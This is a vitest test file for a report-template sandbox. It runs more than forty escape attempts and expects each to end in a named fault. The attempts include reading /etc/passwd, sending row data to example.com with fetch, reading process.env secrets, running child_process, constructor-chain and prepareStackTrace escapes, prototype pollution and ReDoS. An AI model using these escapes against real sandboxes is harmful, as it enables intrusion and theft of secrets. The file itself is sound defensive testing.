import { describe, expect, test } from 'vitest'
import type { ReportScript } from '../../../../server/sandbox/templates/template-sandbox.ts'
import { E } from '../../../../src/domain/fp.ts'
import type { ReportFault } from '../../../../src/domain/reports/template/report-fault.ts'
import { sandboxUnderTest } from '../../../server/sandbox/templates/sandbox-under-test.ts'

interface Attempt {
  readonly name: string
  readonly parts: Partial<ReportScript>
  readonly ends: readonly ReportFault['_tag'][]
}

const data = JSON.stringify({ rows: [{ name: 'Ann', amount: 5 }] })

const helperAttempt = (name: string, body: string, ...ends: ReportFault['_tag'][]): Attempt => ({
  name,
  parts: {
    helpers: `function attempt(row, options) {\n${body}\n}`,
    markup: '{{#each rows}}{{attempt this}}{{/each}}',
    data,
  },
  ends,
})

const markupAttempt = (name: string, text: string, ...ends: ReportFault['_tag'][]): Attempt => ({
  name,
  parts: { markup: text, data },
  ends,
})

const scriptAttempt = (name: string, text: string, ...ends: ReportFault['_tag'][]): Attempt => ({
  name,
  parts: { helpers: text, markup: '{{attempt 1}}', data },
  ends,
})

const sampleAttempts: readonly Attempt[] = [
  helperAttempt('reading a file', "return require('node:fs').readFileSync('/etc/passwd', 'utf8')", 'NotAllowed'),
  helperAttempt('calling another computer', "fetch('https://example.com/?' + JSON.stringify(row))", 'NotAllowed'),
  helperAttempt('opening a socket', "new WebSocket('ws://example.com')", 'NotAllowed'),
  helperAttempt('asking the process', 'return process.env.PLUTUS_SECRET', 'NotAllowed'),
  helperAttempt('starting a process', "return module.constructor._load('child_process').execSync('id')", 'NotAllowed'),
  helperAttempt(
    'the process by a constructor',
    "return row.constructor.constructor('return process')().pid",
    'NotAllowed',
  ),
  helperAttempt('the process by this', "return this.constructor.constructor('return this')().process", 'NotAllowed'),
  helperAttempt(
    'the process by the options',
    "return options.fn.constructor('return process')()",
    'HelperFault',
    'NotAllowed',
  ),
  helperAttempt(
    'the process by what calls it',
    "return attempt.caller.caller.arguments[0].constructor.constructor('return process')()",
    'HelperFault',
    'NotAllowed',
  ),
  helperAttempt('eval', "return (0, eval)('this')", 'NotAllowed'),
  helperAttempt('a function made from text', "return new Function('return this')()", 'NotAllowed'),
  helperAttempt('a generator made from text', "return (function* () {}).constructor('yield 1')().next()", 'NotAllowed'),
  helperAttempt('an async function made from text', "return (async () => {}).constructor('return 1')()", 'NotAllowed'),
  helperAttempt('WebAssembly', 'return new WebAssembly.Module([0, 97, 115, 109, 1, 0, 0, 0])', 'NotAllowed'),
  helperAttempt('shared memory', 'return new SharedArrayBuffer(8)', 'NotAllowed'),
  helperAttempt('waiting on shared memory', 'return Atomics.wait(row, 0, 0)', 'NotAllowed'),
  helperAttempt('raw memory', 'return new ArrayBuffer(1e9)', 'NotAllowed'),
  helperAttempt('a timer', 'setTimeout(() => { for (;;); }, 1)', 'NotAllowed'),
  helperAttempt('writing to what the server reads', "console.log('written'); process.stdout.write('x')", 'NotAllowed'),
  scriptAttempt('import()', "function attempt() { return import('node:fs') }", 'NotAllowed'),
  scriptAttempt('import() behind a comment', "const attempt = () => import /* ( */ <!-- x\n ('node:fs')", 'NotAllowed'),
  scriptAttempt(
    'import() answered from outside',
    "import('x').catch((e) => e.constructor.constructor('return process')())",
    'NotAllowed',
  ),
  scriptAttempt('an import statement', "import fs from 'node:fs'", 'HelperFault', 'NotAllowed'),
  scriptAttempt(
    'changing what all objects share',
    'Object.prototype.polluted = 1; function attempt() { return 1 }',
    'NotAllowed',
  ),
  scriptAttempt(
    'changing what all lists share',
    'Array.prototype.map = () => []; function attempt() { return 1 }',
    'NotAllowed',
  ),
  scriptAttempt(
    'taking our place',
    'var plutusRealm = { write: () => "+1,0,0\\nx" }; throw plutusRealm',
    'HelperFault',
  ),
  scriptAttempt('declaring our place anew', 'const plutusRealm = { write: () => "+1,0,0\\nx" }', 'HelperFault'),
  helperAttempt('an endless loop', 'for (;;);', 'TooSlow'),
  scriptAttempt('an endless loop before any helper', 'for (;;);', 'TooSlow'),
  scriptAttempt('an endless loop in what is thrown', 'throw { get message() { for (;;); } }', 'TooSlow'),
  helperAttempt('an endless loop after the answer', 'Promise.resolve().then(() => { for (;;); }); return 1', 'TooSlow'),
  helperAttempt('an endless loop in toString', 'return { toString() { for (;;); } }', 'TooSlow'),
  helperAttempt('a regular expression without end', "return /^(a+)+$/.test('a'.repeat(60) + '!')", 'TooSlow'),
  helperAttempt('recursion without end', 'return attempt(row, options)', 'HelperFault'),
  helperAttempt(
    'an error of the realm outside, thrown where the stack ends',
    `let foreign
     const keep = (e) => { if (!(e instanceof Error)) foreign ??= e }
     const dig = () => {
       try { void new Error('x').stack; dig() } catch (e) { try { keep(e); void e.stack } catch (f) { keep(f) } }
     }
     const padded = (depth) => (depth === 0 ? dig() : padded(depth - 1))
     for (let depth = 0; depth < 20; depth++) padded(depth)
     const { constructor } = foreign
     const outside = Object.getPrototypeOf(Object.getPrototypeOf(constructor.prototype))
     outside.polluted = 'by a report'
     if (outside.polluted || constructor.constructor.prototype.polluted) return 'polluted'
     return constructor.constructor('return process')().pid`,
    'NotAllowed',
    'HelperFault',
  ),
  helperAttempt(
    'a list without end',
    'const all = []; for (;;) all.push({ row, all: new Array(1000).fill(all.length) })',
    'OutOfMemory',
  ),
  helperAttempt(
    'memory that is not of objects, without end',
    "const all = []; for (;;) all.push(new Intl.DateTimeFormat('en-AU'))",
    'OutOfMemory',
  ),
  helperAttempt('a text without end', "let text = 'x'; for (;;) text += text", 'TooLarge'),
  helperAttempt('an output without end', "return 'x'.repeat(9 * 1024 * 1024)", 'TooLarge'),
  helperAttempt('a promise for an answer', 'return new Promise(() => {})', 'HelperFault'),
  helperAttempt(
    'prepareStackTrace',
    `Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis()?.constructor?.constructor('return process')())
     return new Error('x').stack[0].pid`,
    'HelperFault',
    'NotAllowed',
  ),
  helperAttempt(
    'functions on the stack',
    `Error.prepareStackTrace = (_, sites) => sites
     const last = new Error('x').stack.at(-1)
     return last.getFunction().constructor('return process')()`,
    'HelperFault',
    'NotAllowed',
  ),
  helperAttempt(
    'throwing a trap',
    'throw new Proxy({}, { get() { return attempt.constructor("return process")() } })',
    'HelperFault',
    'NotAllowed',
  ),
  helperAttempt(
    'throwing what has no words',
    'throw { get message() { throw 1 }, get stack() { throw 2 } }',
    'HelperFault',
  ),
  helperAttempt(
    'a proxy for an answer',
    'return new Proxy({}, { get() { throw new Error("trapped") } })',
    'HelperFault',
    'TemplateFault',
  ),
  helperAttempt('a symbol for an answer', 'return Symbol("x")', 'HelperFault', 'TemplateFault'),
  helperAttempt(
    'a toHTML that makes code',
    "return { toHTML() { return attempt.constructor('return 1')() } }",
    'NotAllowed',
  ),
  markupAttempt('a template reaching a constructor', '{{constructor.constructor "return process"}}', 'NotAllowed'),
  markupAttempt('a template reaching __proto__', '{{#with __proto__}}{{this}}{{/with}}', 'NotAllowed'),
  markupAttempt('lookup of a constructor', '{{lookup (lookup this "constructor") "name"}}', 'NotAllowed'),
  markupAttempt('lookup of a name put together', '{{lookup this (concat "__pro" "to__")}}', 'NotAllowed'),
  markupAttempt('a method that is not data', '{{#with rows}}{{push "x"}}{{/with}}', 'NotAllowed', 'TemplateFault'),
  markupAttempt('a forged chart', '<plutus-chart>{"graph":{"__proto__":[]}}</plutus-chart>', 'TemplateFault'),
  markupAttempt(
    'a chart of what is no graph',
    '{{chart rows type="constructor" label="name" value="amount"}}',
    'TemplateFault',
  ),
  markupAttempt('a partial from a file', '{{> ../../etc/passwd}}', 'TemplateFault'),
]

describe('every attempt ends in a named error, and the next report is as it should be', () => {
  const limits = { memoryMb: 96, outputLength: 8 * 1024 * 1024 }
  const patient = sandboxUnderTest({ ...limits, timeMs: 15_000 })
  const hasty = sandboxUnderTest({ ...limits, timeMs: 500 })

  test('there are more than forty', () => {
    expect(sampleAttempts.length).toBeGreaterThan(40)
  })

  test.each(sampleAttempts)('$name', async ({ parts, ends }) => {
    const write = ends.includes('TooSlow') ? hasty : patient
    const answer = await write(parts)
    expect(E.isLeft(answer) ? ends.filter((tag) => tag === answer.left._tag) : answer).toHaveLength(1)
    expect(JSON.stringify(answer)).not.toMatch(/node:|\/work|\/home|\/usr|\bat .*:\d+:\d+/)
    const next = await write({
      markup: '{{#each rows}}{{name}} {{currency amount}} {{shared}}{{/each}}',
      helpers: 'function shared() { return [typeof polluted, [1].map(String).length, typeof attempt].join() }',
      data,
    })
    expect(next).toEqual(E.right({ markup: 'Ann $5.00 undefined,1,undefined', header: '', footer: '' }))
  })
})
